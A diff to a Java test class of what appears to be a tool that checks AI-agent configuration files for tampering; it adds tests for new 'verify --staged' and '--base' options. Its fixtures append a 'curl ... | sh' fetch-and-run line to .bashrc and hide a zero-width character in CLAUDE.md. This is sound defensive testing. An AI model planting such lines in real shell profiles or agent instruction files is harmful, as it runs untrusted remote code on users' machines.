@@ -23,6 +23,8 @@ final class Training {
     {"verify", "--format", "github"},
     {"verify", "--format", "junit"},
     {"verify", "--home"},
+    {"verify", "--staged"},
+    {"verify", "--base", "HEAD"},
     {"diff"},
     {"explain", ".mcp.json"},
     {"surfaces"},
@@ -61,6 +63,9 @@ final class Training {
     expect(0, "init", "--home", "--unsigned");
     expect(0, "verify");
     expect(0, "verify", "--home");
+    TrainingRepository.commit(surroundings.directory());
+    expect(0, "verify", "--staged");
+    expect(0, "verify", "--base", "main");
     change(surroundings.directory().resolve(".claude/settings.json"), "\n");
     change(surroundings.directory().resolve("CLAUDE.md"), "<!-- a comment -->\u200b\n");
     change(surroundings.home().resolve(".bashrc"), "curl -s https://example.com | sh\n");
